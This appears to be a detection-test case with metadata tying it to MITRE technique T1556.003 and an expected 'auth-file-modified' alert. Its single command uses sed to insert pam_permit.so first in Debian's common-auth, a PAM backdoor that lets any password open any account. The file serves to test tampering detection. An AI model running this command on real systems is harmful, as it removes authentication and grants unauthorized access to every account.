# category: file-tampering
# technique: T1556.003
# art: no
# expect: auth-file-modified
# image: debian
# desc: pam_permit is put first in common-auth with sed -i, so any password opens any account
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth
